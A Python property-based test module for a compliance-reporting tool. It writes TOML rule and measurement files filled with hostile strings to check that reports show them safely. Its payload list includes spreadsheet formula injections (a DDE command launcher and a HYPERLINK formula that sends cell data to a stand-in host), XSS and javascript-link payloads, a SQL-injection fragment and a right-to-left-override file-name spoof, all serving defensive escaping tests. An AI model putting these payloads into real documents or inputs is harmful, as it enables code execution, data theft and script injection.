"""A ruleset and a measurement file whose every text is hostile: all that a report may show of somebody's words."""

from __future__ import annotations

import json
from pathlib import Path

from hypothesis import strategies as st

import compliance
from compliance.engine import choose_rulesets, judged
from compliance.records.judging import Call
from compliance.reports.formats import Checked

STRINGS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"点我")', "<script>alert(1)</script>",
    "</td></table><img src=x onerror=alert(1)>", "]]><!DOCTYPE x>", "&lt;b&gt; &amp;", "[x](javascript:alert(1))",
    "![x](http://example.invalid/x.png)", "`code` **b** _i_ ~~s~~", "a | b || c", "# 标题", "1. 项", "- 项", "> 引",
    "---", "<http://example.invalid>", "{0} {{1}}", "\\", "'", '"', "a\nb\r\nc", "\u202etxt.exe",
    "\u0007\u0008\u001b[31m", "\ufeff", "\uffff", "\U0001f600", "_x0041_", "%0A", "' OR 1=1", "__init__",
)  # fmt: skip
texts = st.sampled_from(STRINGS) | st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=12)


def quoted(text: str) -> str:
    """A text as a TOML string: JSON's form is TOML's, but that TOML wants DEL escaped."""
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007F")


def measurements(text: str) -> str:
    """The file of measurements."""
    word = quoted(text)
    return f"""
[subject]
area = {word}
period = "2018"
[measurements]
share = {{ value = 95, unit = "%", evidence = [{word}], note = {word} }}
plan = {{ state = {word}, evidence = [{word}], note = {word} }}
[given.share]
value = 96
unit = "%"
by = {word}
document = {word}
"""


REFUSED = {"hidden-character", "look-alike-character", "look-alike-names"}


def write(folder: Path, text: str) -> tuple[Path, Path]:
    """The ruleset and the measurements, with ``text`` wherever a file may say what it likes."""
    word = quoted(text)
    ruleset = f"""
[ruleset]
id = "hostile"
version = "1.0.0"
series = "hostile"
title = {word}
language = "zh"
effective = {{ from = 2018-01-01 }}
[sources.made_up]
title = {word}
[indicators.share]
number = "1"
name = {quoted("甲" + text)}
domain = {word}
constraint = "binding"
unit = "%"
comparator = "≥"
threshold.delegated_to = {word}
lead = [{word}]
note = {word}
source = {{ ref = "made_up", grade = "reprinted", note = {word} }}
[indicators.plan]
number = "2"
name = {quoted("乙" + text)}
constraint = "aim"
states = ["有", {quoted("无" + text)}]
accepted = ["有"]
source = {{ ref = "made_up", grade = "reprinted", note = {word} }}
"""
    paths = folder / "hostile_rules.toml", folder / "hostile.toml"
    for path, content in zip(paths, (ruleset, measurements(text)), strict=True):
        path.write_text(content, encoding="utf-8", newline="\n")
    return paths


def checked(folder: Path, text: str) -> Checked:
    """What ``check`` finds of it, ready to be shown; what no rule file may hold stands in the measurements alone."""
    rules, measured = write(folder, text)
    found = compliance.load_measurements(measured)
    try:
        chosen = choose_rulesets(found, [rules])
    except compliance.RulesetError as error:
        assert {problem.code for problem in error.problems} <= REFUSED, error
        rules, _ = write(folder, "海")
        measured.write_text(measurements(text), encoding="utf-8", newline="\n")
        chosen = choose_rulesets(found, [rules])
    result = judged(found, chosen, fill={}, accept_unverified=False, strict=False)
    options = Call(files=(str(measured),), rulesets=(str(rules),)).options()
    return Checked(result.assessments, found.inputs, options, result.warnings, None, compliance.__version__)
